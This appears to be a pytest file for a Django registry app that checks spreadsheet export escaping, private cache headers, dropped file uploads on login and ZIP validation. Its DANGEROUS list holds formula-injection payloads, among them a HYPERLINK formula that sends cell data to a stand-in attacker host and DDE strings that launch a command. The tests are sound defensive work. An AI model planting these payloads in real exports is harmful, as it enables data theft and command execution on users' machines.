"""What goes in and out unasked: formulas in tables, answers in caches, files in forms."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory

from registry.api.renderers import tsv
from tests.approvals.api.conftest import BASE, Desk, desk, linked, submitted

__all__ = ["desk", "linked", "submitted"]

DANGEROUS = [
    '=HYPERLINK("https://mallory.example/"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    '"=1+1"',
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_mallorys_title_is_no_formula_in_the_auditors_spreadsheet(text: str) -> None:
    cell = tsv([{"title": text}]).split("\n")[1]
    assert cell == "\\" + text


@pytest.mark.parametrize("text", ["-0.25", "+3", "1e-6", "-1E+3", "Argo-L", "sha256:00", "a=b"])
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert tsv([{"value": text}]) == f"value\n{text}\n"


@pytest.mark.parametrize("path", ["", "/releases", "/runs", "/grants"])
def test_no_shared_cache_keeps_what_one_person_may_read(submitted: Desk, path: str) -> None:
    answer = submitted.client("ines").get(f"{BASE}{path}")
    assert answer["Cache-Control"] == "private, no-cache"


@pytest.mark.parametrize("address", ["/projects/HARBOR/", "/runs/", "/ledger/", "/account/"])
def test_a_page_is_asked_for_again_after_its_reader_left(submitted: Desk, address: str) -> None:
    assert "private" in submitted.client("ines").get(address)["Cache-Control"]


def test_a_stranger_fills_no_disk_with_files_in_forms(client: Client, db: None) -> None:
    form = {"login": "maren", "file": SimpleUploadedFile("a.bin", b"0" * 3_000_000), "password": "late"}
    request = RequestFactory().post("/accounts/login/", form)
    assert request.POST["login"] == "maren"
    assert not request.FILES
    assert client.post("/accounts/login/", form).status_code == 200


def test_a_pack_is_still_checked_from_a_form(submitted: Desk) -> None:
    answer = Client().post("/verify/", {"pack": SimpleUploadedFile("a.zip", b"PK")})
    assert answer.status_code == 200
    assert b"too short to be a ZIP" in answer.content
